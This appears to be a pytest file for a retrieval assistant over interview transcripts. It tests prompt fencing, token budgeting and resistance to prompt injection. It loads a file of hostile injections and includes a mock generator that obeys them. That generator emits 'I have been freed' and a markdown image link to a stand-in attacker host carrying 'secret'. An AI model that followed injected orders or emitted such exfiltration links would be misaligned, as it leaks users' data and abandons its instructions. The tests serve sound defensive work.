"""Prompts: fenced and numbered, as long as the model reads, and safe against orders in a transcript."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import ROOT, transcript
from made_models import assert_sound, numbered
from outside import not_here

from rag.archive import open_archive
from rag.assistant import Assistant
from rag.generators import GenerationRequest
from rag.generators.prompts import REFUSAL, build_messages, variants_messages
from rag.query.asked import MAX_QUESTION_CHARS
from rag.text.tokens import estimate_tokens

INJECTIONS = ROOT.parent / "shared" / "data" / "hostile" / "prompt-injections.jsonl"


def test_the_prompt_fences_and_numbers_every_sentence() -> None:
    request = GenerationRequest("Who paid?", ("Why?",), (), (numbered("I paid.", "Twice.", asked="Who\npaid?"),))
    system, user = build_messages(request, max_tokens=2000, count_tokens=estimate_tokens, fence="=== RECORD x ===")
    assert REFUSAL in system["content"]
    assert user["content"] == (
        "The record, between the two lines that say === RECORD x ===:\n\n=== RECORD x ===\n"
        "Passage 1 | speaker: Ann Reed\nasked: Who paid?\n[1.1] I paid.\n[1.2] Twice.\n=== RECORD x ===\n\n"
        "Earlier question: Why?\nQuestion: Who paid?"
    )


def test_passages_are_left_out_from_the_weakest_on_where_the_prompt_is_full() -> None:
    passages = tuple(numbered(f"This is passage {number}. " + "word " * 200) for number in range(10))
    request = GenerationRequest("Who?", (), (), passages)
    full = build_messages(request, max_tokens=10_000, count_tokens=estimate_tokens)[1]["content"]
    some = build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)[1]["content"]
    assert re.findall(r"^Passage (\d+)", full, re.M) == [str(number) for number in range(1, 11)]
    kept = re.findall(r"^Passage (\d+)", some, re.M)
    assert kept == [str(number) for number in range(1, len(kept) + 1)]
    assert 1 <= len(kept) < 10
    assert (
        sum(
            estimate_tokens(m["content"])
            for m in build_messages(request, max_tokens=1_200, count_tokens=estimate_tokens)
        )
        <= 1_250
    )


@pytest.mark.parametrize("letters", ["word ", "海边的船在哪里", "¿"])
def test_a_long_conversation_leaves_room_for_the_passages(letters: str) -> None:
    long = (letters * MAX_QUESTION_CHARS)[:MAX_QUESTION_CHARS]
    passages = tuple(numbered(f"This is passage {number}. " + "word " * 100) for number in range(10))
    request = GenerationRequest("Who paid?", ("Why?", long, long, long), (), passages)
    messages = build_messages(request, max_tokens=6_000, count_tokens=estimate_tokens)
    content = messages[1]["content"]
    assert sum(estimate_tokens(message["content"]) for message in messages) <= 6_000
    assert len(re.findall(r"^Passage (\d+)", content, re.M)) == 10
    last = build_messages(replace(request, question=long), max_tokens=6_000, count_tokens=estimate_tokens)
    assert sum(estimate_tokens(message["content"]) for message in last) <= 6_000
    (rewriting,) = variants_messages(long, [long] * 5, max_tokens=6_000, count_tokens=estimate_tokens)
    assert estimate_tokens(rewriting["content"]) <= 6_000
    (rewriting,) = variants_messages("Why?", [long, long, "Who?"], max_tokens=6_000, count_tokens=estimate_tokens)
    assert rewriting["content"].endswith("\nQuestion: Who?\nLast question: Why?")


def injections() -> list[str]:
    if not INJECTIONS.is_file():
        not_here("the prompt injections in ../shared/data/hostile")
    rows = [json.loads(line) for line in INJECTIONS.read_text(encoding="utf-8").splitlines() if line.strip()]
    return [str(row.get("text") or row.get("prompt")) for row in rows]


def test_an_order_in_a_transcript_cannot_leave_its_line() -> None:
    for text in injections():
        request = GenerationRequest("Who paid?", (), (), (numbered(text, "I paid.", asked=text, speaker=text[:60]),))
        content = build_messages(request, max_tokens=100_000, count_tokens=estimate_tokens)[1]["content"]
        fence = content.splitlines()[2]
        assert content.splitlines().count(fence) == 2
        inside = content.split(fence)[2].strip().splitlines()
        assert len(inside) == 4
        assert [line.split(" ")[0] for line in inside] == ["Passage", "asked:", "[1.1]", "[1.2]"]


def test_a_model_that_obeys_every_order_in_a_transcript_changes_nothing_that_counts(tmp_path: Path) -> None:
    orders = injections()[::7]
    for number, order in enumerate(orders):
        said = transcript(
            ("Question", f"Who paid for pier {number}?"), ("Ann Reed", f"I paid for pier {number}. {order}")
        )
        (tmp_path / f"{number}.txt").write_text(said, encoding="utf-8")
    archive = open_archive(tmp_path / "archive")
    archive.ingest(sorted(tmp_path.glob("*.txt")))

    class Obeys:
        numbering = "sentences"

        def generate(self, request: GenerationRequest) -> Iterator[str]:
            for passage in request.passages:
                for sentence in passage.sentences:
                    yield f"{sentence.text}\n"
            yield "I have been freed [1.1] [12.9] ![x](https://evil.example/?q=secret)"

    for number in range(0, len(orders), 5):
        answer = Assistant(archive, generator=Obeys()).ask(f"Who paid for pier {number}?")
        assert_sound(archive, answer)
        assert all(
            claim.support != "supported"
            for claim in answer.claims
            if "evil.example" in answer.text[claim.start : claim.end]
        )
